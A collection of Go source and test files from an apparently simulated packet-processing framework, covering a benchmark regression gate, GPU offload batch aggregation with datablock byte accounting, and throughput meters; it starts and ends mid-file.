	if err := os.Mkdir(filepath.Join(dir, "scripts"), 0o755); err != nil {
		t.Fatal(err)
	}
	if err := os.WriteFile(filepath.Join(dir, "scripts", "perf_gate.sh"), script, 0o755); err != nil {
		t.Fatal(err)
	}
	gitIn(t, dir, "init", "-q")
	return dir
}

func gitIn(t *testing.T, dir string, args ...string) {
	t.Helper()
	full := append([]string{"-c", "user.email=gate@test", "-c", "user.name=gate"}, args...)
	cmd := exec.Command("git", full...)
	cmd.Dir = dir
	if out, err := cmd.CombinedOutput(); err != nil {
		t.Fatalf("git %v: %v\n%s", args, err, out)
	}
}

func runGate(t *testing.T, dir string, args ...string) (string, error) {
	t.Helper()
	cmd := exec.Command("bash", append([]string{filepath.Join("scripts", "perf_gate.sh")}, args...)...)
	cmd.Dir = dir
	out, err := cmd.CombinedOutput()
	return string(out), err
}

// TestGateBaselineIgnoresUntracked pins the fix for the baseline-selection
// bug: a stray uncommitted BENCH_*.json that sorted newest (here a
// far-future date) used to win over the committed baseline, so the gate
// compared against numbers nobody had reviewed.
func TestGateBaselineIgnoresUntracked(t *testing.T) {
	dir := gateRepo(t)
	if err := os.WriteFile(filepath.Join(dir, "BENCH_2020-01-01.json"), []byte("{}"), 0o644); err != nil {
		t.Fatal(err)
	}
	gitIn(t, dir, "add", "BENCH_2020-01-01.json", "scripts/perf_gate.sh")
	gitIn(t, dir, "commit", "-q", "-m", "baseline")
	if err := os.WriteFile(filepath.Join(dir, "BENCH_9999-12-31.json"), []byte("{}"), 0o644); err != nil {
		t.Fatal(err)
	}

	out, err := runGate(t, dir, "-print-baseline")
	if err != nil {
		t.Fatalf("-print-baseline failed: %v\n%s", err, out)
	}
	if got := strings.TrimSpace(out); got != "BENCH_2020-01-01.json" {
		t.Fatalf("baseline = %q, want committed BENCH_2020-01-01.json (untracked future-dated file must not win)", got)
	}
}

// TestGateUpdateBaselineRefusesSameDayOverwrite pins the -update-baseline
// guard: rerunning on a day that already has a snapshot must fail without
// -f instead of silently clobbering the measured (possibly committed) file.
func TestGateUpdateBaselineRefusesSameDayOverwrite(t *testing.T) {
	dir := gateRepo(t)
	today := "BENCH_" + time.Now().Format("2006-01-02") + ".json"
	if err := os.WriteFile(filepath.Join(dir, today), []byte("{}"), 0o644); err != nil {
		t.Fatal(err)
	}

	out, err := runGate(t, dir, "-update-baseline")
	if err == nil {
		t.Fatalf("-update-baseline overwrote %s without -f:\n%s", today, out)
	}
	if !strings.Contains(out, "pass -f") {
		t.Fatalf("refusal message should mention -f, got:\n%s", out)
	}
	if data, rerr := os.ReadFile(filepath.Join(dir, today)); rerr != nil || string(data) != "{}" {
		t.Fatalf("existing snapshot was modified: %v %q", rerr, data)
	}
}
