package perf

import (
	"path/filepath"
	"strings"
	"testing"

	"nba/internal/simtime"
)

// tinyWorkload is a cheap stand-in so the tests don't pay for real sweeps.
func tinyWorkload(cases int) workload {
	return workload{name: "tiny", run: func(workers int) (int, simtime.Time, string, error) {
		return cases, simtime.Time(cases) * simtime.Millisecond, "d", nil
	}}
}

func TestMeasureOneComputesRates(t *testing.T) {
	r, err := measureOne(tinyWorkload(10), 3)
	if err != nil {
		t.Fatal(err)
	}
	if r.Name != "tiny" || r.Parallelism != 3 || r.Cases != 10 {
		t.Fatalf("row mangled: %+v", r)
	}
	if r.WallS <= 0 || r.SimS != 0.010 {
		t.Fatalf("wall %v sim %v", r.WallS, r.SimS)
	}
	if r.SimSPerS <= 0 || r.CasesPerS <= 0 {
		t.Fatalf("rates not computed: %+v", r)
	}
	if r.PeakGoroutines < 1 {
		t.Fatalf("peak goroutines %d", r.PeakGoroutines)
	}
}

func TestSnapshotRoundTrip(t *testing.T) {
	s := &Snapshot{Schema: Schema, Date: "2026-08-08", Go: "go1.24", GOMAXPROCS: 1,
		Seed: 42, Quick: true,
		Results: []Result{{Name: "chaos-sweep", Parallelism: 1, WallS: 1.5, SimS: 0.05,
			SimSPerS: 0.033, Cases: 16, CasesPerS: 10.7, AllocsPerCase: 1000, PeakGoroutines: 3, Digest: "abc"}}}
	path := filepath.Join(t.TempDir(), "BENCH_test.json")
	if err := s.WriteFile(path); err != nil {
		t.Fatal(err)
	}
	got, err := ReadFile(path)
	if err != nil {
		t.Fatal(err)
	}
	if got.Schema != s.Schema || got.Quick != s.Quick || len(got.Results) != 1 ||
		got.Results[0] != s.Results[0] {
		t.Fatalf("round trip mismatch:\n%+v\n%+v", s, got)
	}
}

func TestCompareGatesOnHeadlineOnly(t *testing.T) {
	base := &Snapshot{Schema: Schema, Quick: true, Results: []Result{
		{Name: "a", Parallelism: 1, SimSPerS: 100, AllocsPerCase: 10},
		{Name: "a", Parallelism: 4, SimSPerS: 300},
	}}

	// Self-compare passes.
	cmp, err := Compare(base, base, 0.15)
	if err != nil {
		t.Fatal(err)
	}
	if !cmp.OK() {
		t.Fatalf("self-compare failed: %+v", cmp)
	}

	// Within tolerance, more allocations: still passes (headline gates).
	fresh := &Snapshot{Schema: Schema, Quick: true, Results: []Result{
		{Name: "a", Parallelism: 1, SimSPerS: 90, AllocsPerCase: 99999},
		{Name: "a", Parallelism: 4, SimSPerS: 400},
	}}
	cmp, err = Compare(base, fresh, 0.15)
	if err != nil {
		t.Fatal(err)
	}
	if !cmp.OK() {
		t.Fatalf("within-tolerance compare failed: %v", cmp.Lines)
	}

	// A collapse on a parallel arm is informational only: on a saturated
	// runner that wall clock measures contention, not the code.
	fresh.Results[1].SimSPerS = 10
	cmp, err = Compare(base, fresh, 0.15)
	if err != nil {
		t.Fatal(err)
	}
	if !cmp.OK() {
		t.Fatalf("parallel-arm drop should not gate: %v", cmp.Lines)
	}
	if !strings.Contains(strings.Join(cmp.Lines, "\n"), "info") {
		t.Fatalf("no info line for ungated parallel row: %v", cmp.Lines)
	}

	// Beyond tolerance on the serial row: fails and names the row.
	fresh.Results[0].SimSPerS = 50
	cmp, err = Compare(base, fresh, 0.15)
	if err != nil {
		t.Fatal(err)
	}
	if cmp.OK() || cmp.Regressions != 1 {
		t.Fatalf("regression not caught: %v", cmp.Lines)
	}
	if !strings.Contains(strings.Join(cmp.Lines, "\n"), "REGRESSION") {
		t.Fatalf("no REGRESSION line: %v", cmp.Lines)
	}

	// Missing row: fails.
	fresh.Results = fresh.Results[:1]
	fresh.Results[0].SimSPerS = 100
	cmp, err = Compare(base, fresh, 0.15)
	if err != nil {
		t.Fatal(err)
	}
	if cmp.OK() || cmp.Missing != 1 {
		t.Fatalf("missing row not caught: %v", cmp.Lines)
	}

	// Schema and quick-mode mismatches refuse to compare.
	if _, err := Compare(&Snapshot{Schema: Schema + 1, Quick: true}, fresh, 0.15); err == nil {
		t.Fatal("schema mismatch not rejected")
	}
	if _, err := Compare(&Snapshot{Schema: Schema, Quick: false}, fresh, 0.15); err == nil {
		t.Fatal("quick mismatch not rejected")
	}
}

// TestMeasureTinyEndToEnd exercises the real Measure loop shape against
// stubbed workloads by checking the real pinned set only for its shape, then
// doing one real (but minimal) quick measurement of the figure grid.
func TestWorkloadShapes(t *testing.T) {
	o := MeasureOptions{Seed: 1, Quick: true}.norm()
	wls := workloads(o)
	if len(wls) != 2 || wls[0].name != "chaos-sweep" || wls[1].name != "figure-grid" {
		t.Fatalf("pinned workload set changed: %v", []string{wls[0].name, wls[1].name})
	}
	if o.Parallelism < 2 {
		t.Fatalf("parallel arm %d, want >= 2", o.Parallelism)
	}
	specs := gridSpecs(1, simtime.Millisecond)
	if len(specs) != 8 {
		t.Fatalf("figure grid has %d specs, want 8", len(specs))
	}
}
