package perf

import (
	"fmt"
	"io"
)

// Comparison is the outcome of gating a fresh snapshot against a baseline.
type Comparison struct {
	// Lines are human-readable per-row verdicts in baseline order.
	Lines []string
	// Regressions counts rows whose sim_s_per_s fell below tolerance.
	Regressions int
	// Missing counts baseline rows absent from the fresh snapshot.
	Missing int
}

// OK reports whether the gate passes: no regressions and no missing rows.
func (c *Comparison) OK() bool { return c.Regressions == 0 && c.Missing == 0 }

// Compare gates fresh against base: for every baseline row (matched by
// workload name + parallelism) the fresh sim_s_per_s must be at least
// (1 - tol) of the baseline's. Only the headline metric gates — wall clock,
// allocations and goroutine counts are recorded for the trajectory but a
// faster-allocating faster build should not fail the gate. Improvements
// never fail.
//
// Only parallelism-1 rows gate. The parallel arms exist to prove the digest
// contract and to record the trajectory, but their wall clock on a saturated
// or single-core runner measures scheduler and GC contention between
// concurrent simulators, not the code under test — on the 1-CPU reference
// box the same binary's parallel figure-grid arm varies >2x run to run.
// Parallel rows still count as Missing if they disappear entirely.
func Compare(base, fresh *Snapshot, tol float64) (*Comparison, error) {
	if base.Schema != fresh.Schema {
		return nil, fmt.Errorf("perf: schema mismatch: baseline %d vs fresh %d (refresh the baseline)", base.Schema, fresh.Schema)
	}
	if base.Quick != fresh.Quick {
		return nil, fmt.Errorf("perf: quick mode mismatch: baseline %v vs fresh %v (measure with matching flags)", base.Quick, fresh.Quick)
	}
	key := func(r Result) string { return fmt.Sprintf("%s@%d", r.Name, r.Parallelism) }
	freshBy := map[string]Result{}
	for _, r := range fresh.Results {
		freshBy[key(r)] = r
	}
	c := &Comparison{}
	for _, b := range base.Results {
		f, ok := freshBy[key(b)]
		if !ok {
			c.Missing++
			c.Lines = append(c.Lines, fmt.Sprintf("MISSING %-14s p=%d: baseline row has no fresh counterpart", b.Name, b.Parallelism))
			continue
		}
		ratio := 0.0
		if b.SimSPerS > 0 {
			ratio = f.SimSPerS / b.SimSPerS
		}
		verdict := "ok"
		switch {
		case b.Parallelism != 1:
			verdict = "info" // recorded, not gated: contention-dominated arm
		case ratio < 1-tol:
			verdict = "REGRESSION"
			c.Regressions++
		}
		c.Lines = append(c.Lines, fmt.Sprintf("%-10s %-14s p=%d: sim-s/s %8.2f -> %8.2f (%+.1f%%, tol -%.0f%%)",
			verdict, b.Name, b.Parallelism, b.SimSPerS, f.SimSPerS, (ratio-1)*100, tol*100))
	}
	return c, nil
}

// Print writes the snapshot as the experiment table.
func (s *Snapshot) Print(w io.Writer) {
	fmt.Fprintf(w, "schema %d, %s, %s, GOMAXPROCS=%d, seed=%d, quick=%v\n\n",
		s.Schema, s.Date, s.Go, s.GOMAXPROCS, s.Seed, s.Quick)
	fmt.Fprintf(w, "%-14s %-4s %9s %9s %11s %9s %11s %8s\n",
		"workload", "par", "wall(s)", "sim(s)", "sim-s/s", "cases/s", "allocs/case", "peak-gor")
	for _, r := range s.Results {
		fmt.Fprintf(w, "%-14s %-4d %9.3f %9.3f %11.2f %9.1f %11d %8d\n",
			r.Name, r.Parallelism, r.WallS, r.SimS, r.SimSPerS, r.CasesPerS, r.AllocsPerCase, r.PeakGoroutines)
	}
}
