package perf

import (
	"fmt"
	"io"

	"nba/internal/bench"
)

func init() {
	bench.Register(bench.Experiment{
		ID:    "perf",
		Title: "Performance trajectory snapshot (sim-seconds/sec headline)",
		Paper: "repository extension: a machine-readable perf trajectory (BENCH_<date>.json) with a regression gate (scripts/perf_gate.sh)",
		Run:   runPerf,
	})
}

func runPerf(o bench.Options, w io.Writer) error {
	// A serial bench invocation (Parallelism <= 1) still measures a real
	// parallel arm: pass 0 so Measure picks max(2, GOMAXPROCS).
	p := o.Parallelism
	if p <= 1 {
		p = 0
	}
	snap, err := Measure(MeasureOptions{Seed: o.Seed, Quick: o.Quick, Parallelism: p})
	if err != nil {
		return err
	}
	snap.Print(w)

	// The determinism contract, visible in the snapshot: rows of the same
	// workload must agree on their behaviour digest at every parallelism.
	first := map[string]Result{}
	for _, r := range snap.Results {
		ref, seen := first[r.Name]
		if !seen {
			first[r.Name] = r
			continue
		}
		if r.Digest != ref.Digest {
			return fmt.Errorf("perf: %s digest diverged across parallelism %d vs %d: %s vs %s",
				r.Name, ref.Parallelism, r.Parallelism, ref.Digest, r.Digest)
		}
	}
	fmt.Fprintf(w, "\ndigests identical across parallelism arms: PASS\n")
	return nil
}
