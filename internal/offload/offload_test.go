package offload

import (
	"testing"

	"nba/internal/batch"
	"nba/internal/conflang"
	"nba/internal/element"
	"nba/internal/graph"
	"nba/internal/packet"
	"nba/internal/rng"
	"nba/internal/simtime"
	"nba/internal/sysinfo"
)

// twoKernel elements share a "payload" datablock; only the first also reads
// a private header block.
type offElemA struct{ element.Base }

func (*offElemA) Class() string                                             { return "OffA" }
func (*offElemA) Process(ctx *element.ProcContext, p *packet.Packet) int    { return 0 }
func (*offElemA) ProcessOffloaded(ctx *element.ProcContext, b *batch.Batch) {}
func (*offElemA) Datablocks() []element.Datablock {
	return []element.Datablock{
		{Name: "payload", Kind: element.WholePacket, Offset: 14, H2D: true},
		{Name: "hdr", Kind: element.PartialPacket, Offset: 14, Length: 20, H2D: true},
	}
}

type offElemB struct{ element.Base }

func (*offElemB) Class() string                                             { return "OffB" }
func (*offElemB) Process(ctx *element.ProcContext, p *packet.Packet) int    { return 0 }
func (*offElemB) ProcessOffloaded(ctx *element.ProcContext, b *batch.Batch) {}
func (*offElemB) Datablocks() []element.Datablock {
	return []element.Datablock{
		{Name: "payload", Kind: element.WholePacket, Offset: 14, H2D: true, D2H: true},
	}
}

func init() {
	element.Register("OffA", func() element.Element { return &offElemA{} })
	element.Register("OffB", func() element.Element { return &offElemB{} })
}

func buildChain(t *testing.T) (*graph.Graph, *graph.Node, []*graph.Node, int) {
	t.Helper()
	cfg, err := conflang.Parse(`FromInput() -> OffA() -> OffB() -> ToOutput();`)
	if err != nil {
		t.Fatal(err)
	}
	cctx := &element.ConfigContext{NodeLocal: element.NewNodeLocal(), NumPorts: 4, Rand: rng.New(1)}
	g, err := graph.Build(cfg, cctx, sysinfo.Default(), graph.DefaultOptions())
	if err != nil {
		t.Fatal(err)
	}
	head := g.NodeByName("OffA@2")
	if head == nil {
		for _, n := range g.Nodes {
			if n.Elem.Class() == "OffA" {
				head = n
			}
		}
	}
	chain, resume := g.OffloadChainAt(head)
	if len(chain) != 2 {
		t.Fatalf("chain length %d, want 2", len(chain))
	}
	return g, head, chain, resume
}

func mkDevBatch(n, frameLen int) *batch.Batch {
	b := &batch.Batch{}
	for i := 0; i < n; i++ {
		p := &packet.Packet{}
		ln := packet.BuildUDP4(p.Buf(), [6]byte{2}, [6]byte{4}, uint32(i), uint32(i*7), 1, 2, frameLen)
		p.SetLength(ln)
		b.Add(p)
	}
	b.Anno[batch.AnnoDevice] = 1
	return b
}

func TestAggregatorByteAccounting(t *testing.T) {
	_, head, chain, resume := buildChain(t)
	agg := NewAggregator(sysinfo.Default())
	b := mkDevBatch(10, 64)
	full, err := agg.Add(0, head, chain, resume, b)
	if err != nil {
		t.Fatal(err)
	}
	if full != nil {
		t.Fatal("one batch reported full (limit is 32)")
	}
	if agg.PendingCount() != 1 {
		t.Fatalf("PendingCount = %d", agg.PendingCount())
	}
	ps := agg.TakeAll()
	if len(ps) != 1 {
		t.Fatalf("TakeAll returned %d", len(ps))
	}
	p := ps[0]
	if p.NPkts != 10 {
		t.Errorf("NPkts = %d, want 10", p.NPkts)
	}
	// Deduplicated datablocks: payload (50 B/pkt, H2D+D2H) + hdr (20 B/pkt, H2D).
	wantH2D := 10 * (50 + 20)
	wantD2H := 10 * 50
	if p.H2DBytes != wantH2D {
		t.Errorf("H2DBytes = %d, want %d (payload datablock copied once despite two users)", p.H2DBytes, wantH2D)
	}
	if p.D2HBytes != wantD2H {
		t.Errorf("D2HBytes = %d, want %d", p.D2HBytes, wantD2H)
	}
	if p.KernelTime(sysinfo.Default()) <= 0 {
		t.Error("kernel time not positive")
	}
}

func TestAggregatorFullFlush(t *testing.T) {
	_, head, chain, resume := buildChain(t)
	cm := sysinfo.Default()
	agg := NewAggregator(cm)
	var flushed *Pending
	for i := 0; i < cm.MaxAggBatches; i++ {
		p, err := agg.Add(0, head, chain, resume, mkDevBatch(4, 64))
		if err != nil {
			t.Fatal(err)
		}
		if p != nil {
			if i != cm.MaxAggBatches-1 {
				t.Fatalf("flushed at batch %d, want %d", i, cm.MaxAggBatches-1)
			}
			flushed = p
		}
	}
	if flushed == nil {
		t.Fatal("aggregate never flushed at limit")
	}
	if len(flushed.Batches) != cm.MaxAggBatches || flushed.NPkts != 4*cm.MaxAggBatches {
		t.Errorf("flushed %d batches %d pkts", len(flushed.Batches), flushed.NPkts)
	}
	if agg.PendingCount() != 0 {
		t.Error("pending not cleared after flush")
	}
}

func TestAggregatorExpiry(t *testing.T) {
	_, head, chain, resume := buildChain(t)
	cm := sysinfo.Default()
	agg := NewAggregator(cm)
	if _, err := agg.Add(simtime.Microsecond, head, chain, resume, mkDevBatch(2, 64)); err != nil {
		t.Fatal(err)
	}
	if got := agg.Expired(simtime.Microsecond + cm.MaxAggDelay/2); len(got) != 0 {
		t.Errorf("expired too early: %d", len(got))
	}
	got := agg.Expired(simtime.Microsecond + cm.MaxAggDelay)
	if len(got) != 1 {
		t.Fatalf("expired = %d, want 1", len(got))
	}
	if agg.PendingCount() != 0 {
		t.Error("expired aggregate still pending")
	}
}

func TestAggregatorRejectsMixedDevices(t *testing.T) {
	_, head, chain, resume := buildChain(t)
	agg := NewAggregator(sysinfo.Default())
	b1 := mkDevBatch(2, 64)
	if _, err := agg.Add(0, head, chain, resume, b1); err != nil {
		t.Fatal(err)
	}
	b2 := mkDevBatch(2, 64)
	b2.Anno[batch.AnnoDevice] = 2
	if _, err := agg.Add(0, head, chain, resume, b2); err == nil {
		t.Error("mixed-device aggregate accepted")
	}
}

func TestKernelTimeScalesWithPackets(t *testing.T) {
	_, head, chain, resume := buildChain(t)
	cm := sysinfo.Default()
	agg := NewAggregator(cm)
	agg.Add(0, head, chain, resume, mkDevBatch(8, 64))
	small := agg.TakeAll()[0].KernelTime(cm)
	agg2 := NewAggregator(cm)
	agg2.Add(0, head, chain, resume, mkDevBatch(64, 64))
	large := agg2.TakeAll()[0].KernelTime(cm)
	if large <= small {
		t.Errorf("kernel time did not grow with packets: %v vs %v", small, large)
	}
}
