// Package offload implements the worker-side offloading machinery: batch
// aggregation ahead of kernel launches and datablock-based copy accounting
// (paper §3.3).
//
// The paper aggregates up to 32 packet batches per device task because GPU
// efficiency needs thousands of packets, far more than the 64-packet
// computation batch. This package tracks pending aggregates per offloadable
// chain, computes the host<->device byte volumes from the chain's declared
// datablocks (deduplicated by name, which implements the datablock-reuse
// optimisation the paper proposes), and sums the chain's kernel costs.
package offload

import (
	"fmt"
	"sort"

	"nba/internal/batch"
	"nba/internal/element"
	"nba/internal/graph"
	"nba/internal/packet"
	"nba/internal/simtime"
	"nba/internal/sysinfo"
)

// Pending is one under-construction device task.
type Pending struct {
	Head   *graph.Node
	Chain  []*graph.Node
	Resume int
	Device int // device annotation value (device index + 1)

	Batches  []*batch.Batch
	NPkts    int
	H2DBytes int
	D2HBytes int
	// KernelBytes tracks, per chain element, the payload bytes its kernel
	// touches (for per-byte kernel cost terms).
	KernelBytes []int

	FirstAdd simtime.Time

	// datablocks is the chain's deduplicated datablock set.
	datablocks []element.Datablock
}

// KernelTime returns the summed kernel execution time for the aggregate.
func (p *Pending) KernelTime(cm *sysinfo.CostModel) simtime.Time {
	var total simtime.Time
	for i, n := range p.Chain {
		kc := cm.KernelCostOf(n.Elem.Class())
		total += kc.Duration(p.NPkts, p.KernelBytes[i])
	}
	return total
}

// Aggregator manages pending aggregates for one worker.
type Aggregator struct {
	cm      *sysinfo.CostModel
	pending map[int]*Pending // keyed by head node ID
	heads   []int            // deterministic iteration order

	// AgeScale scales the aggregation age limit (MaxAggDelay). The overload
	// governor shrinks it (e.g. 0.5) at LevelTrim and above so packets stop
	// maturing behind a congested device. Zero or one means nominal.
	AgeScale float64
}

// NewAggregator creates an empty aggregator.
func NewAggregator(cm *sysinfo.CostModel) *Aggregator {
	return &Aggregator{cm: cm, pending: map[int]*Pending{}}
}

// Add appends a batch to the aggregate for the given chain. It returns a
// non-nil Pending when the aggregate reached the configured limit and must
// be flushed now.
func (a *Aggregator) Add(now simtime.Time, head *graph.Node, chain []*graph.Node, resume int, b *batch.Batch) (*Pending, error) {
	dev := int(b.Anno[batch.AnnoDevice])
	p := a.pending[head.ID]
	if p == nil {
		p = &Pending{
			Head: head, Chain: chain, Resume: resume, Device: dev,
			FirstAdd: now, KernelBytes: make([]int, len(chain)),
		}
		seen := map[string]element.Datablock{}
		for _, n := range chain {
			off := n.Offloadable()
			if off == nil {
				return nil, fmt.Errorf("offload: node %s in chain is not offloadable", n.Name)
			}
			for _, db := range off.Datablocks() {
				if prev, dup := seen[db.Name]; dup {
					// Shared datablock: widen directions, copy bytes once.
					prev.H2D = prev.H2D || db.H2D
					prev.D2H = prev.D2H || db.D2H
					seen[db.Name] = prev
					continue
				}
				seen[db.Name] = db
			}
		}
		for _, name := range sortedNames(seen) {
			p.datablocks = append(p.datablocks, seen[name])
		}
		a.pending[head.ID] = p
		a.heads = append(a.heads, head.ID)
	}
	if p.Device != dev {
		return nil, fmt.Errorf("offload: aggregate for %s mixes devices %d and %d", head.Name, p.Device, dev)
	}
	if p.Resume != resume {
		return nil, fmt.Errorf("offload: aggregate for %s mixes resume points %d and %d", head.Name, p.Resume, resume)
	}

	p.Batches = append(p.Batches, b)
	return a.account(p, b), nil
}

// account updates byte/packet tallies for a newly added batch and reports
// the Pending if it is now full.
func (a *Aggregator) account(p *Pending, b *batch.Batch) *Pending {
	b.ForEachLive(func(i int, pkt *packet.Packet) {
		frameLen := pkt.Length()
		p.NPkts++
		for _, db := range p.datablocks {
			n := db.BytesFor(frameLen)
			if db.H2D {
				p.H2DBytes += n
			}
			if db.D2H {
				p.D2HBytes += n
			}
		}
		for i, node := range p.Chain {
			for _, db := range node.Offloadable().Datablocks() {
				if db.H2D {
					p.KernelBytes[i] += db.BytesFor(frameLen)
				}
			}
		}
	})
	if len(p.Batches) >= a.cm.MaxAggBatches {
		a.remove(p.Head.ID)
		return p
	}
	return nil
}

// Expired removes and returns aggregates older than MaxAggDelay (scaled by
// AgeScale when the overload governor has trimmed it).
func (a *Aggregator) Expired(now simtime.Time) []*Pending {
	maxAge := a.cm.MaxAggDelay
	if a.AgeScale > 0 && a.AgeScale != 1 {
		maxAge = simtime.Time(float64(maxAge) * a.AgeScale)
	}
	var out []*Pending
	for _, id := range append([]int(nil), a.heads...) {
		p := a.pending[id]
		if p != nil && now-p.FirstAdd >= maxAge {
			a.remove(id)
			out = append(out, p)
		}
	}
	return out
}

// TakeAll removes and returns every pending aggregate (idle flush).
func (a *Aggregator) TakeAll() []*Pending {
	var out []*Pending
	for _, id := range append([]int(nil), a.heads...) {
		if p := a.pending[id]; p != nil {
			a.remove(id)
			out = append(out, p)
		}
	}
	return out
}

// PendingCount returns the number of open aggregates.
func (a *Aggregator) PendingCount() int { return len(a.pending) }

func (a *Aggregator) remove(id int) {
	delete(a.pending, id)
	for i, h := range a.heads {
		if h == id {
			a.heads = append(a.heads[:i], a.heads[i+1:]...)
			break
		}
	}
}

func sortedNames(m map[string]element.Datablock) []string {
	names := make([]string, 0, len(m))
	for n := range m {
		names = append(names, n)
	}
	sort.Strings(names)
	return names
}
