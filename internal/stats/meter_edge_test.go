package stats

import (
	"testing"

	"nba/internal/simtime"
)

// TestMeterRateSinceFrozenByEnd is the regression test for the frozen-window
// bug: traffic counted after End used to leak into RateSince because it read
// the live Counter instead of the counts End captured.
func TestMeterRateSinceFrozenByEnd(t *testing.T) {
	var m Meter
	m.Mark(0)
	m.Counter.Add(1000, 100_000)
	m.End(simtime.Second)
	wantPPS, wantBPS := 1000.0, 800_000.0

	// Drain traffic after the window closed must not change the rate,
	// whether read exactly at the end time or later.
	m.Counter.Add(5000, 500_000)
	for _, now := range []simtime.Time{simtime.Second, 2 * simtime.Second, 10 * simtime.Second} {
		pps, bps := m.RateSince(now)
		if pps != wantPPS || bps != wantBPS {
			t.Fatalf("RateSince(%v) after End = (%v, %v), want (%v, %v)", now, pps, bps, wantPPS, wantBPS)
		}
	}
	if pps, bps := m.RateWindow(); pps != wantPPS || bps != wantBPS {
		t.Fatalf("RateWindow = (%v, %v), want (%v, %v)", pps, bps, wantPPS, wantBPS)
	}
}

func TestMeterRateSinceBeforeEndTimeStaysLive(t *testing.T) {
	var m Meter
	m.Mark(0)
	m.Counter.Add(100, 10_000)
	m.End(2 * simtime.Second)
	// A read strictly before the frozen end still reflects the live counter:
	// the freeze only clamps reads at or beyond the end time.
	m.Counter.Add(100, 10_000)
	pps, _ := m.RateSince(simtime.Second)
	if pps != 200 {
		t.Fatalf("RateSince before endTime = %v pps, want live 200", pps)
	}
}

func TestMeterMarkReopensFrozenWindow(t *testing.T) {
	var m Meter
	m.Mark(0)
	m.Counter.Add(10, 1000)
	m.End(simtime.Second)

	// Mark must clear the frozen state so a new interval measures afresh.
	m.Mark(2 * simtime.Second)
	m.Counter.Add(300, 30_000)
	pps, _ := m.RateSince(3 * simtime.Second)
	if pps != 300 {
		t.Fatalf("reopened window RateSince = %v pps, want 300", pps)
	}
}

func TestMeterEndWithoutMark(t *testing.T) {
	// End before/without Mark: the window spans from the zero mark time.
	var m Meter
	m.Counter.Add(500, 50_000)
	m.End(simtime.Second)
	if pps, _ := m.RateWindow(); pps != 500 {
		t.Fatalf("RateWindow without Mark = %v pps, want 500", pps)
	}
	if pps, _ := m.RateSince(5 * simtime.Second); pps != 500 {
		t.Fatalf("RateSince without Mark = %v pps, want frozen 500", pps)
	}
}

func TestMeterZeroLengthWindows(t *testing.T) {
	var m Meter
	m.Mark(simtime.Second)
	m.Counter.Add(100, 10_000)

	// Zero-length and negative intervals report zero rather than Inf/NaN.
	if pps, bps := m.RateSince(simtime.Second); pps != 0 || bps != 0 {
		t.Fatalf("zero-length RateSince = (%v, %v), want zeros", pps, bps)
	}
	if pps, bps := m.RateSince(simtime.Millisecond); pps != 0 || bps != 0 {
		t.Fatalf("negative-interval RateSince = (%v, %v), want zeros", pps, bps)
	}

	// End at the mark time: a zero-length frozen window.
	m.End(simtime.Second)
	if pps, bps := m.RateWindow(); pps != 0 || bps != 0 {
		t.Fatalf("zero-length RateWindow = (%v, %v), want zeros", pps, bps)
	}
	if pps, bps := m.RateSince(2 * simtime.Second); pps != 0 || bps != 0 {
		t.Fatalf("RateSince over zero-length frozen window = (%v, %v), want zeros", pps, bps)
	}
}

func TestMeterEndThenEarlierEnd(t *testing.T) {
	// A second End re-freezes: last call wins, like repeated Mark.
	var m Meter
	m.Mark(0)
	m.Counter.Add(100, 10_000)
	m.End(simtime.Second)
	m.Counter.Add(100, 10_000)
	m.End(2 * simtime.Second)
	if pps, _ := m.RateWindow(); pps != 100 {
		t.Fatalf("re-frozen RateWindow = %v pps, want 100", pps)
	}
}
