// Package stats provides the measurement primitives used by the framework
// and the experiment harness: counters, interval throughput meters, moving
// averages (for the adaptive load balancer) and latency histograms (for the
// paper's latency CDFs, Figure 14).
package stats

import (
	"fmt"
	"math"
	"sort"

	"nba/internal/simtime"
)

// TrafficCounter accumulates packet and wire-byte counts.
type TrafficCounter struct {
	Packets   uint64
	WireBytes uint64 // frame bytes + per-frame wire overhead
	Drops     uint64
}

// Add records n packets of the given per-frame wire bytes.
func (c *TrafficCounter) Add(pkts int, wireBytes int) {
	c.Packets += uint64(pkts)
	c.WireBytes += uint64(wireBytes)
}

// Meter measures throughput over an interval of virtual time.
type Meter struct {
	Counter   TrafficCounter
	markTime  simtime.Time
	markPkts  uint64
	markBytes uint64
	ended     bool
	endTime   simtime.Time
	endPkts   uint64
	endBytes  uint64
}

// Mark starts a measurement interval at time now, reopening the window if a
// previous one was frozen by End.
func (m *Meter) Mark(now simtime.Time) {
	m.markTime = now
	m.markPkts = m.Counter.Packets
	m.markBytes = m.Counter.WireBytes
	m.ended = false
}

// RateSince returns (pps, bps) over the interval from the last Mark to now.
// Once End has frozen the window, reads at or beyond the end time use the
// frozen counts, so post-End drain traffic never inflates the rate.
func (m *Meter) RateSince(now simtime.Time) (pps, bps float64) {
	pkts, bytes := m.Counter.Packets, m.Counter.WireBytes
	if m.ended && now >= m.endTime {
		now = m.endTime
		pkts, bytes = m.endPkts, m.endBytes
	}
	dt := (now - m.markTime).Seconds()
	if dt <= 0 {
		return 0, 0
	}
	pps = float64(pkts-m.markPkts) / dt
	bps = float64(bytes-m.markBytes) * 8 / dt
	return pps, bps
}

// End freezes the measurement window at time now. Traffic counted after End
// (e.g. packets drained from queues after arrivals stop) is excluded from
// RateWindow and from RateSince reads at or beyond now.
func (m *Meter) End(now simtime.Time) {
	m.ended = true
	m.endTime = now
	m.endPkts = m.Counter.Packets
	m.endBytes = m.Counter.WireBytes
}

// RateWindow returns (pps, bps) over the Mark..End window. It requires both
// Mark and End to have been called.
func (m *Meter) RateWindow() (pps, bps float64) {
	dt := (m.endTime - m.markTime).Seconds()
	if dt <= 0 {
		return 0, 0
	}
	pps = float64(m.endPkts-m.markPkts) / dt
	bps = float64(m.endBytes-m.markBytes) * 8 / dt
	return pps, bps
}

// MovingAverage is a fixed-window mean, used by the adaptive load balancer
// to smooth throughput observations (paper §3.4: history size 16384).
type MovingAverage struct {
	buf  []float64
	sum  float64
	next int
	full bool
}

// NewMovingAverage creates a window of size n.
func NewMovingAverage(n int) *MovingAverage {
	if n <= 0 {
		panic(fmt.Sprintf("stats: moving average window must be positive, got %d", n))
	}
	return &MovingAverage{buf: make([]float64, n)}
}

// Push adds a sample.
func (m *MovingAverage) Push(v float64) {
	m.sum -= m.buf[m.next]
	m.buf[m.next] = v
	m.sum += v
	m.next++
	if m.next == len(m.buf) {
		m.next = 0
		m.full = true
	}
}

// Mean returns the window mean (over the filled portion).
func (m *MovingAverage) Mean() float64 {
	n := m.Count()
	if n == 0 {
		return 0
	}
	return m.sum / float64(n)
}

// Reset discards all samples.
func (m *MovingAverage) Reset() {
	for i := range m.buf {
		m.buf[i] = 0
	}
	m.sum = 0
	m.next = 0
